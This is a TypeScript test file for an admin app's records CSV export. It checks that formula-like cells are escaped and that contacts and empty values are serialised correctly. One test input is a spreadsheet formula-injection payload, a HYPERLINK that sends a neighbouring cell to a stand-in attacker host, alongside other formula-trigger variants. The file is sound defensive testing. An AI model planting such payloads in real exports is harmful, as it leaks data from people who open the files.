import { describe, expect, it } from 'vitest';
import { recordsCsv } from '../../web/admin/src/records/csv.ts';

/** The cells of the first column, as a spreadsheet reads them (RFC 4180). */
function firstColumn(text: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  let first = true;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (!quoted && c === ',') {
      if (first) cells.push(cell);
      first = false;
    } else if (!quoted && c === '\n') {
      if (first) cells.push(cell);
      cell = '';
      first = true;
    } else if (first) cell += c;
  }
  return cells;
}

describe('the records CSV export', () => {
  it('writes a cell a spreadsheet would run as a formula as text, and leaves other names alone', () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&B2,"x")', '+SUM(1,1)', '-1+2', '@SUM(1,1)', '\t=1+1', '\r=1+1', '＝1+1', 'Agent "Mio", 山田'];
    const csv = recordsCsv(
      names.map((name) => ({ name, email: 'a@example.com' })),
      ['name', 'email'],
    );
    expect(firstColumn(csv)).toEqual([
      'name',
      '\'=HYPERLINK("http://evil.example/?x="&B2,"x")',
      "'+SUM(1,1)",
      "'-1+2",
      "'@SUM(1,1)",
      "'\t=1+1",
      "'\r=1+1",
      "'＝1+1",
      'Agent "Mio", 山田',
    ]);
  });

  it('writes a ticket contact as its parts and an absent value as an empty cell', () => {
    const csv = recordsCsv([{ number: '101', contact: { name: 'Mio', email: 'mio@example.com' }, assignee: null }], ['number', 'contact', 'assignee']);
    expect(csv).toBe('number,contact,assignee\n101,Mio / mio@example.com,\n');
  });
});
